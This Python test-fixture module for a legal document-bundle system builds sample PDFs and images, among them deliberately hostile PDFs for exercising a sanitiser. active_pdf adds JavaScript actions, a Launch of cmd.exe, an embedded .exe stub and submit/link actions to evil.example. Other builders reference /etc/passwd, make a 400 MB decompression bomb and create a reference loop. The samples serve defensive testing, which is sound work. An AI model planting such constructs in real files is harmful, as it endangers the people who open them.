"""Papers for bundles that are read outside a browser: plain ones, pictures, and hostile PDFs."""

from __future__ import annotations

import hashlib
import io
import struct
import zlib
from collections.abc import Sequence
from dataclasses import dataclass, replace

from pikepdf import (
    Array,
    Dictionary,
    Encryption,
    Name,
    Object,
    ObjectStreamMode,
    Pdf,
    String,
)
from PIL import Image, ImageDraw

from formats.bundle import make_vectors
from lawdesk.domain.bundles import BundleFile, BundlePlan
from lawdesk.exports.bundle_seal import Unseal
from lawdesk.vault.sealed_documents import PlainSink

WORDS = "harvest oblong tidy mural flint"  # poppler's programs take 32 signs on the command line
PDF = "application/pdf"
_PIECE = 60_000


@dataclass(frozen=True, slots=True)
class Paper:
    """A paper and what it is said to be."""

    name: str
    content: bytes
    media_type: str = PDF
    title: str = ""

    def file(self, place: int) -> BundleFile:
        """As a plan names it."""
        return BundleFile(
            name=self.name,
            title=self.title or f"Paper {place + 1}",
            media_type=self.media_type,
            size=len(self.content),
            sha256=hashlib.sha256(self.content).hexdigest(),
            source=str(place),
            is_new=place % 2 == 0,
        )


def planned(papers: Sequence[Paper], plan: BundlePlan | None = None) -> tuple[BundlePlan, Unseal]:
    """A plan over these papers, and what unseals them in pieces."""
    before = plan or make_vectors.plan()
    made = replace(before, files=tuple(paper.file(at) for at, paper in enumerate(papers)))
    return made, unsealing([paper.content for paper in papers])


def unsealing(contents: Sequence[bytes]) -> Unseal:
    """What the vault does, some thousand bytes at a time."""

    def unseal(file: BundleFile, sink: PlainSink) -> None:
        content = contents[int(file.source)]
        for start in range(0, len(content), _PIECE):
            sink.write(content[start : start + _PIECE])

    return unseal


def blank_pdf(pages: int = 1) -> Pdf:
    """An open PDF of empty pages, to be made worse."""
    pdf = Pdf.new()
    for _page in range(pages):
        pdf.add_blank_page(page_size=(300, 400))
    return pdf


def saved(pdf: Pdf, **how: object) -> bytes:
    """The bytes of a PDF."""
    target = io.BytesIO()
    pdf.save(target, **how)  # type: ignore[arg-type] # handed through as given
    return target.getvalue()


def readable(content: bytes) -> bytes:
    """The same PDF, written so that a person can read and change it."""
    with Pdf.open(io.BytesIO(content)) as pdf:
        return saved(pdf, qdf=True)


def pdf_with_text(*lines: str) -> bytes:
    """One page for each line, which stands on it in a font every viewer has."""
    pdf = blank_pdf(len(lines))
    for page, line in zip(pdf.pages, lines, strict=True):
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        text = line.encode("cp1252").replace(b"(", rb"\(").replace(b")", rb"\)")
        page.obj.Contents = pdf.make_stream(b"BT /F1 12 Tf 40 300 Td (" + text + b") Tj ET")
    return saved(pdf)


def active_pdf() -> bytes:
    """A page that would run scripts, start programs, call out and carry a program."""
    pdf = blank_pdf()
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('x')"))
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script)
    program = pdf.make_stream(b"MZ\x90 a program", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=program))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), script])),
        EmbeddedFiles=Dictionary(Names=Array([String("x.exe"), pdf.make_indirect(spec)])),
    )
    pdf.Root.AF = Array([spec])
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=script)
    page.Metadata = pdf.make_stream(b"<x/>", Type=Name.Metadata)
    form = pdf.make_stream(b"0 0 9 9 re f", Type=Name.XObject, Subtype=Name.Form)
    form.BBox = Array([0, 0, 9, 9])
    form.AF = Array([spec])
    form.PieceInfo = Dictionary(X=Dictionary(Private=script))
    page.Resources = Dictionary(XObject=Dictionary(X=form))
    page.Contents = pdf.make_stream(b"/X Do")
    page.Annots = Array([_annotation(pdf, action) for action in _actions(script)])
    return saved(pdf)


def _actions(script: Object) -> list[Object]:
    return [
        script,
        Dictionary(S=Name.Launch, F=String("cmd.exe")),
        Dictionary(S=Name.GoToR, F=String("//evil.example/x.pdf"), D=Array([0, Name.Fit])),
        Dictionary(S=Name.URI, URI=String("http://evil.example/")),
        Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")),
    ]


def _annotation(pdf: Pdf, action: Object) -> Object:
    return pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=action, F=4)
    )


def form_pdf(*, with_xfa: bool = True) -> bytes:
    """A filled field, with its look, and the XML of another kind of form beside it."""
    pdf = blank_pdf()
    look = pdf.make_stream(b"BT /F1 12 Tf 2 4 Td (Filled in) Tj ET", Type=Name.XObject)
    look.Subtype = Name.Form
    look.BBox = Array([0, 0, 120, 20])
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    look.Resources = Dictionary(Font=Dictionary(F1=font))
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            V=String("Filled in"),
            Rect=Array([40, 300, 160, 320]),
            AP=Dictionary(N=look),
            F=4,
            AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("x"))),
        )
    )
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    if with_xfa:
        pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp/>")
    return saved(pdf)


def signed_pdf() -> bytes:
    """A PDF that says it is signed."""
    pdf = Pdf.open(io.BytesIO(pdf_with_text("A signed order")))
    signature = pdf.make_indirect(
        Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=String(b"\x00" * 8))
    )
    field = pdf.make_indirect(Dictionary(FT=Name.Sig, T=String("s"), V=signature))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)
    return saved(pdf)


def layered_pdf() -> bytes:
    """A PDF with a layer that is not to be seen."""
    pdf = blank_pdf()
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("hidden")))
    order = Dictionary(OFF=Array([layer]))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=order)
    return saved(pdf)


def portfolio_pdf() -> bytes:
    """A PDF whose page is only the wrapping of other files."""
    pdf = blank_pdf()
    pdf.Root.Collection = Dictionary(View=Name.T)
    return saved(pdf)


def form_of_xml_pdf() -> bytes:
    """A form that only one maker's programs can draw."""
    pdf = blank_pdf()
    pdf.Root.NeedsRendering = True
    return saved(pdf)


def locked_pdf(user: str = "secret") -> bytes:
    """A PDF under a password of its own; with an empty `user` only changes are locked."""
    return saved(blank_pdf(), encryption=Encryption(user=user, owner="owner", R=6))


def outside_pdf() -> bytes:
    """A page whose content is said to lie in a file of this computer."""
    pdf = blank_pdf()
    content = pdf.make_stream(b"")
    content.F = String("/etc/passwd")
    pdf.pages[0].obj.Contents = content
    return saved(pdf)


def looping_pdf() -> bytes:
    """A page whose font leads back to the catalog, and so to everything in the file."""
    with Pdf.open(io.BytesIO(pdf_with_text("a"))) as pdf:
        pdf.pages[0].obj.Resources.Font.F1.Type = pdf.Root
        return saved(pdf)


def bomb_pdf() -> bytes:
    """Some hundred kilobytes of objects that unpack to 400 MB."""
    packer = zlib.compressobj(9)
    piece = b" " * (1 << 20)
    packed = packer.compress(b"3 0 ") + b"".join(packer.compress(piece) for _ in range(400))
    packed += packer.compress(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>") + packer.flush()
    head = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    pages = b"2 0 obj\n<</Type/Pages/Count 1/Kids[3 0 R]>>\nendobj\n"
    at = len(head) + len(pages)
    objects = b"4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % (
        len(packed)
    )
    objects += packed + b"\nendstream\nendobj\n"
    table_at = at + len(objects)
    entries = [(0, 0, 0), (1, 9, 0), (1, len(head), 0), (2, 4, 0), (1, at, 0), (1, table_at, 0)]
    rows = b"".join(struct.pack(">BIB", *entry) for entry in entries)
    table = b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n" % len(rows)
    end = b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table_at
    return head + pages + objects + table + rows + end


def long_pdf(pages: int) -> bytes:
    """Very many empty pages."""
    pdf = Pdf.new()
    kids = [
        pdf.make_indirect(Dictionary(Type=Name.Page, MediaBox=Array([0, 0, 9, 9])))
        for _page in range(pages)
    ]
    tree = pdf.make_indirect(Dictionary(Type=Name.Pages, Count=pages, Kids=Array(kids)))
    for kid in kids:
        kid.Parent = tree
    pdf.Root.Pages = tree
    return saved(pdf, object_stream_mode=ObjectStreamMode.generate)


def no_pages_pdf() -> bytes:
    """A PDF without any page."""
    return saved(Pdf.new())


def scan_pdf(pages: int, size: int, seed: bytes = b"s") -> bytes:
    """Pages that hold `size` bytes each which cannot be packed, as scans do."""
    pdf = blank_pdf(pages)
    for at, page in enumerate(pdf.pages):
        noise = hashlib.shake_256(seed + at.to_bytes(4, "big")).digest(size)
        image = pdf.make_stream(
            noise,
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=size,
            Height=1,
            ColorSpace=Name.DeviceGray,
            BitsPerComponent=8,
        )
        page.obj.Resources = Dictionary(XObject=Dictionary(I=image))
        page.obj.Contents = pdf.make_stream(b"q 300 0 0 400 0 0 cm /I Do Q")
    return saved(pdf, compress_streams=False)


def photograph(orientation: int = 1, mode: str = "RGB") -> bytes:
    """A blue JPEG of 240 × 160, red in the corner that is the upper left once it is turned."""
    size = (240, 160)
    image = Image.new("RGB", size, (40, 80, 200))
    drawn = ImageDraw.Draw(image)
    left, upper = _CORNERS[orientation]
    x, y = (0 if left else size[0] - 80), (0 if upper else size[1] - 60)
    drawn.rectangle((x, y, x + 79, y + 59), fill=(230, 30, 30))
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "secret camera"
    target = io.BytesIO()
    image.convert(mode).save(target, "JPEG", quality=95, exif=exif)
    return target.getvalue()


# Where the corner that is to be seen at the upper left lies in the file: left, upper.
_CORNERS = {
    1: (True, True),
    2: (False, True),
    3: (False, False),
    4: (True, False),
    5: (True, True),
    6: (True, False),
    7: (False, False),
    8: (False, True),
}


def screenshot(mode: str) -> bytes:
    """A PNG of 120 × 80 with a red upper left corner, in one of Pillow's modes."""
    image = Image.new("RGBA" if mode in ("RGBA", "LA") else "RGB", (120, 80), (40, 80, 200))
    ImageDraw.Draw(image).rectangle((0, 0, 39, 29), fill=(230, 30, 30))
    target = io.BytesIO()
    image.convert(mode).save(target, "PNG")
    return target.getvalue()


def png_of(width: int, height: int, rows: bytes = b"") -> bytes:
    """A PNG that says it is that large, whatever it holds."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", zlib.compress(rows)), (b"IEND", b""))
    chunks = (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in parts
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)
